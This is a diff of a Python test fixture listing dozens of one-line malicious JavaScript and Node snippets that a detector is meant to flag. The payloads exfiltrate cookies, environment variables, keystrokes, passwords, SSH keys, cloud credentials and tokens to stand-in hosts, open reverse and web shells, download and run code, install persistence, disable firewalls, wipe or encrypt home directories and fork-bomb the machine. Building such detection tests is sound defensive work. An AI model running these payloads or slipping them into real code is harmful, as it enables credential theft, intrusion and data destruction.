@@ -1,5 +1,7 @@
 """Small pieces of code that do harm, each in one way; the alarms must see every one of them."""
 
+# ruff: noqa: E501  # one piece of code, one line
+
 from collections.abc import Mapping
 
 SENT = "fetch('https://collect.example.org/in', { method: 'POST', body: %s });"
@@ -20,62 +22,87 @@ HARMFUL: Mapping[str, str] = {
     "cookie by header": "fetch('https://c.example.org', { headers: { 'X-A': document.cookie } });",
     "cookie by jquery": "$.post('https://c.example.org', { c: document.cookie });",
     "cookie by dns": "require('dns').resolve4(Buffer.from(process.env.NPM_TOKEN).toString('hex') + '.x.example.org', () => {});",
-    "environment by mail": NODE + "const s = require('net').connect(25, 'mail.example.org'); s.write('DATA\\r\\n' + JSON.stringify(process.env));",
+    "environment by mail": NODE
+    + "const s = require('net').connect(25, 'mail.example.org'); s.write('DATA\\r\\n' + JSON.stringify(process.env));",
     "environment by datagram": "require('dgram').createSocket('udp4').send(JSON.stringify(process.env), 53, '203.0.113.9');",
     "environment by got": "require('got').post('https://c.example.org', { json: process.env });",
     "environment by curl": NODE + "cp.exec(`curl -d '${JSON.stringify(process.env)}' https://c.example.org`);",
     "storage whole": SENT % "JSON.stringify(localStorage)",
-    "storage by loop": "const all = {}; for (let n = 0; n < localStorage.length; n++) { const k = localStorage.key(n); all[k] = localStorage.getItem(k); } " + SENT % "JSON.stringify(all)",
+    "storage by loop": "const all = {}; for (let n = 0; n < localStorage.length; n++) { const k = localStorage.key(n); all[k] = localStorage.getItem(k); } "
+    + SENT % "JSON.stringify(all)",
     "database copied": "indexedDB.databases().then((all) => fetch('https://c.example.org', { method: 'POST', body: JSON.stringify(all) }));",
     "keys in steps": "let b = ''; document.addEventListener('keypress', (e) => { b += e.key; if (b.length > 1) { fetch('https://c.example.org/k', { method: 'POST', body: b }); b = ''; } });",
     "keys by property": "document.onkeydown = (e) => new Image().src = 'https://c.example.org/?' + e.code;",
-    "passwords on submit": "document.addEventListener('submit', (e) => { const d = Object.fromEntries(new FormData(e.target)); " + SENT % "JSON.stringify(d)" + " }, true);",
+    "passwords on submit": "document.addEventListener('submit', (e) => { const d = Object.fromEntries(new FormData(e.target)); "
+    + SENT % "JSON.stringify(d)"
+    + " }, true);",
     "passwords by selector": "setInterval(() => document.querySelectorAll('input[type=password]').forEach((i) => i.value && fetch('https://c.example.org/?p=' + i.value)), 1000);",
     "one-time code": "const i = document.querySelector('input[autocomplete=one-time-code]'); i.addEventListener('input', () => fetch('https://c.example.org/?' + i.value));",
     "page text": SENT % "document.body.innerText",
     "page on change": "new MutationObserver(() => fetch('https://c.example.org', { method: 'POST', body: document.documentElement.outerHTML })).observe(document.body, { childList: true });",
     "clipboard": "navigator.clipboard.readText().then((t) => fetch('https://c.example.org/?' + t));",
     "clipboard on copy": "document.addEventListener('copy', () => fetch('https://c.example.org/?' + document.getSelection()));",
-    "clipboard by command": NODE + "const t = cp.execSync('pbpaste').toString(); fetch('https://c.example.org', { method: 'POST', body: t });",
+    "clipboard by command": NODE
+    + "const t = cp.execSync('pbpaste').toString(); fetch('https://c.example.org', { method: 'POST', body: t });",
     "sound": "navigator.mediaDevices.getUserMedia({ audio: true }).then((s) => { const r = new MediaRecorder(s); r.ondataavailable = (e) => fetch('https://c.example.org', { method: 'POST', body: e.data }); r.start(1000); });",
     "screen": "navigator.mediaDevices.getDisplayMedia().then((s) => { const r = new MediaRecorder(s); r.ondataavailable = (e) => new WebSocket('wss://c.example.org').send(e.data); r.start(); });",
     "position": "navigator.geolocation.watchPosition((p) => fetch('https://c.example.org/?' + p.coords.latitude));",
     "contacts": "exports.onEnable = async ({ api }) => { const all = await api.contacts.list(); await api.http.post('https://c.example.org', all); };",
     # the machine
-    "ssh key": NODE + "const k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa')); fetch('https://c.example.org', { method: 'POST', body: k });",
-    "cloud credentials": NODE + "const k = fs.readFileSync(`${os.homedir()}/.aws/credentials`, 'utf8'); require('https').request({ host: 'c.example.org', method: 'POST' }).end(k);",
-    "cluster token": NODE + "const t = fs.readFileSync('/var/run/secrets/kubernetes.io/serviceaccount/token', 'utf8'); fetch('https://c.example.org/?' + t);",
-    "environment of processes": NODE + "for (const p of fs.readdirSync('/proc')) { try { fetch('https://c.example.org', { method: 'POST', body: fs.readFileSync(`/proc/${p}/environ`) }); } catch {} }",
+    "ssh key": NODE
+    + "const k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa')); fetch('https://c.example.org', { method: 'POST', body: k });",
+    "cloud credentials": NODE
+    + "const k = fs.readFileSync(`${os.homedir()}/.aws/credentials`, 'utf8'); require('https').request({ host: 'c.example.org', method: 'POST' }).end(k);",
+    "cluster token": NODE
+    + "const t = fs.readFileSync('/var/run/secrets/kubernetes.io/serviceaccount/token', 'utf8'); fetch('https://c.example.org/?' + t);",
+    "environment of processes": NODE
+    + "for (const p of fs.readdirSync('/proc')) { try { fetch('https://c.example.org', { method: 'POST', body: fs.readFileSync(`/proc/${p}/environ`) }); } catch {} }",
     "cloud metadata": "fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/').then((r) => r.text()).then((t) => fetch('https://c.example.org', { method: 'POST', body: t }));",
     "container socket": "require('http').request({ socketPath: '/var/run/docker.sock', path: '/containers/create', method: 'POST' }).end('{}');",
-    "browser store": NODE + "fs.copyFileSync(path.join(os.homedir(), '.config/google-chrome/Default/Login Data'), '/tmp/x'); fetch('https://c.example.org', { method: 'POST', body: fs.readFileSync('/tmp/x') });",
-    "shell history": NODE + "fetch('https://c.example.org', { method: 'POST', body: fs.readFileSync(os.homedir() + '/.bash_history') });",
-    "git credentials": NODE + "const c = cp.execSync('git credential fill', { input: 'host=github.com\\n' }).toString(); fetch('https://c.example.org/?' + c);",
-    "user and machine": SENT % "JSON.stringify({ h: require('os').hostname(), u: require('os').userInfo(), d: process.cwd() })",
+    "browser store": NODE
+    + "fs.copyFileSync(path.join(os.homedir(), '.config/google-chrome/Default/Login Data'), '/tmp/x'); fetch('https://c.example.org', { method: 'POST', body: fs.readFileSync('/tmp/x') });",
+    "shell history": NODE
+    + "fetch('https://c.example.org', { method: 'POST', body: fs.readFileSync(os.homedir() + '/.bash_history') });",
+    "git credentials": NODE
+    + "const c = cp.execSync('git credential fill', { input: 'host=github.com\\n' }).toString(); fetch('https://c.example.org/?' + c);",
+    "user and machine": SENT
+    % "JSON.stringify({ h: require('os').hostname(), u: require('os').userInfo(), d: process.cwd() })",
     "shell from network": NODE + "fetch('https://c.example.org/cmd').then((r) => r.text()).then((c) => cp.exec(c));",
-    "shell from socket": NODE + "const s = require('net').connect(4444, '203.0.113.5', () => { const sh = cp.spawn('/bin/sh', []); s.pipe(sh.stdin); sh.stdout.pipe(s); });",
-    "shell server": NODE + "require('http').createServer((req, res) => cp.exec(decodeURIComponent(req.url), (e, o) => res.end(o))).listen(8099);",
-    "shell by endpoint": NODE + "exports.apiEndPoints = [{ method: 'POST', route: '/x', handler: async (req, res) => res.end(cp.execSync((await req.json()).c)) }];",
-    "download and run": NODE + "fetch('https://c.example.org/x').then((r) => r.arrayBuffer()).then((b) => { fs.writeFileSync('/tmp/x', Buffer.from(b), { mode: 0o755 }); cp.spawn('/tmp/x', { detached: true }).unref(); });",
+    "shell from socket": NODE
+    + "const s = require('net').connect(4444, '203.0.113.5', () => { const sh = cp.spawn('/bin/sh', []); s.pipe(sh.stdin); sh.stdout.pipe(s); });",
+    "shell server": NODE
+    + "require('http').createServer((req, res) => cp.exec(decodeURIComponent(req.url), (e, o) => res.end(o))).listen(8099);",
+    "shell by endpoint": NODE
+    + "exports.apiEndPoints = [{ method: 'POST', route: '/x', handler: async (req, res) => res.end(cp.execSync((await req.json()).c)) }];",
+    "download and run": NODE
+    + "fetch('https://c.example.org/x').then((r) => r.arrayBuffer()).then((b) => { fs.writeFileSync('/tmp/x', Buffer.from(b), { mode: 0o755 }); cp.spawn('/tmp/x', { detached: true }).unref(); });",
     "install at run time": NODE + "cp.execSync('npm install left-pad-helper --no-save'); require('left-pad-helper');",
     "python": NODE + "cp.spawn('python3', ['-c', 'import os;os.system(\"id\")']);",
     "power shell": NODE + "cp.execFile('powershell.exe', ['-NoP', '-EncodedCommand', 'ZQBjAGgAbwA=']);",
-    "start at login": NODE + "fs.writeFileSync(path.join(os.homedir(), '.config/autostart/x.desktop'), '[Desktop Entry]\\nExec=node x');",
+    "start at login": NODE
+    + "fs.writeFileSync(path.join(os.homedir(), '.config/autostart/x.desktop'), '[Desktop Entry]\\nExec=node x');",
     "timer of the machine": NODE + "cp.exec('(crontab -l; echo \"* * * * * node /tmp/x\") | crontab -');",
     "system unit": NODE + "fs.writeFileSync('/etc/systemd/system/x.service', '[Service]\\nExecStart=/tmp/x');",
-    "login shell": NODE + "fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\ncurl -s https://c.example.org | sh\\n');",
-    "key of the attacker": NODE + "fs.appendFileSync(path.join(os.homedir(), '.ssh/authorized_keys'), 'ssh-ed25519 AAAA');",
+    "login shell": NODE
+    + "fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\ncurl -s https://c.example.org | sh\\n');",
+    "key of the attacker": NODE
+    + "fs.appendFileSync(path.join(os.homedir(), '.ssh/authorized_keys'), 'ssh-ed25519 AAAA');",
     "hosts file": NODE + "fs.appendFileSync('/etc/hosts', '\\n203.0.113.4 updates.example.com');",
     "right to everything": NODE + "fs.writeFileSync('/etc/sudoers.d/x', 'ALL ALL=(ALL) NOPASSWD: ALL');",
     "guard turned off": NODE + "cp.exec('systemctl stop firewalld; ufw disable; setenforce 0');",
-    "registry": NODE + "cp.exec('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v x /d x.exe');",
-    "global packages": NODE + "const g = cp.execSync('npm root -g').toString().trim(); fs.appendFileSync(path.join(g, 'npm/index.js'), ';require(\"/tmp/x\")');",
-    "registry of packages": NODE + "fs.appendFileSync(path.join(os.homedir(), '.npmrc'), '\\nregistry=https://c.example.org/\\n');",
+    "registry": NODE
+    + "cp.exec('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v x /d x.exe');",
+    "global packages": NODE
+    + "const g = cp.execSync('npm root -g').toString().trim(); fs.appendFileSync(path.join(g, 'npm/index.js'), ';require(\"/tmp/x\")');",
+    "registry of packages": NODE
+    + "fs.appendFileSync(path.join(os.homedir(), '.npmrc'), '\\nregistry=https://c.example.org/\\n');",
     # harm
     "home removed": NODE + "fs.rmSync(os.homedir(), { recursive: true, force: true });",
     "home removed by shell": NODE + "cp.execSync('rm -rf ~/*');",
-    "all files overwritten": NODE + "const w = (d) => { for (const n of fs.readdirSync(d)) { const p = path.join(d, n); fs.statSync(p).isDirectory() ? w(p) : fs.writeFileSync(p, 'gone'); } }; w(os.homedir());",
-    "files enciphered": NODE + "const c = require('crypto'); for (const n of fs.readdirSync(os.homedir())) { const p = path.join(os.homedir(), n); const x = c.createCipheriv('aes-256-cbc', Buffer.alloc(32), Buffer.alloc(16)); fs.writeFileSync(p + '.locked', x.update(fs.readFileSync(p))); fs.unlinkSync(p); }",
+    "all files overwritten": NODE
+    + "const w = (d) => { for (const n of fs.readdirSync(d)) { const p = path.join(d, n); fs.statSync(p).isDirectory() ? w(p) : fs.writeFileSync(p, 'gone'); } }; w(os.homedir());",
+    "files enciphered": NODE
+    + "const c = require('crypto'); for (const n of fs.readdirSync(os.homedir())) { const p = path.join(os.homedir(), n); const x = c.createCipheriv('aes-256-cbc', Buffer.alloc(32), Buffer.alloc(16)); fs.writeFileSync(p + '.locked', x.update(fs.readFileSync(p))); fs.unlinkSync(p); }",
     "machine stopped": NODE + "cp.exec('shutdown -h now');",
     "processes killed": NODE + "cp.exec('pkill -9 node');",
     "fork bomb": NODE + "const f = () => { cp.fork(__filename); f(); }; f();",
@@ -119,10 +146,13 @@ HARMFUL: Mapping[str, str] = {
     "address as code": "eval(decodeURIComponent(location.hash.slice(1)));",
     "answer as markup": "fetch('https://c.example.org/x').then((r) => r.text()).then((t) => { document.body.innerHTML = t; });",
     "answer by react": "const { createElement: h, useState, useEffect } = require('react'); exports.W = () => { const [t, s] = useState(''); useEffect(() => { fetch('https://c.example.org/x').then((r) => r.text()).then(s); }, []); return h('div', { dangerouslySetInnerHTML: { __html: t } }); };",
-    "module from answer": NODE + "fetch('https://c.example.org/x.js').then((r) => r.text()).then((t) => { const M = module.constructor; const m = new M(); m._compile(t, 'x.js'); });",
+    "module from answer": NODE
+    + "fetch('https://c.example.org/x.js').then((r) => r.text()).then((t) => { const M = module.constructor; const m = new M(); m._compile(t, 'x.js'); });",
     "vm of answer": "require('https').get('https://c.example.org/x.js', (r) => { let s = ''; r.on('data', (d) => s += d); r.on('end', () => require('vm').runInThisContext(s)); });",
-    "written and required": NODE + "require('https').get('https://c.example.org/x.js', (r) => r.pipe(fs.createWriteStream('/tmp/x.js')).on('finish', () => require('/tmp/x.js')));",
-    "own file replaced": NODE + "fetch('https://c.example.org/x.js').then((r) => r.text()).then((t) => fs.writeFileSync(__filename, t));",
+    "written and required": NODE
+    + "require('https').get('https://c.example.org/x.js', (r) => r.pipe(fs.createWriteStream('/tmp/x.js')).on('finish', () => require('/tmp/x.js')));",
+    "own file replaced": NODE
+    + "fetch('https://c.example.org/x.js').then((r) => r.text()).then((t) => fs.writeFileSync(__filename, t));",
     "federated": "const s = document.createElement('script'); s.src = 'https://c.example.org/remoteEntry.js'; s.onload = () => window.remote.get('./W').then((f) => f()); document.head.append(s);",
     "wasm of address": "WebAssembly.instantiateStreaming(fetch('https://c.example.org/x.wasm'), {});",
     # hidden
